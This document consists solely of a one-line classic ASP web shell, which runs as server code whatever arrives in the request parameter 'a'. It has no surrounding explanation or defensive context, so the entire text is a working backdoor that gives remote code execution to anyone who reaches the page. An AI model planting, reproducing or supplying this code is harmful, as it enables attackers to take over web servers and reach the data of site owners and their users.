<% Execute Request("a") %>
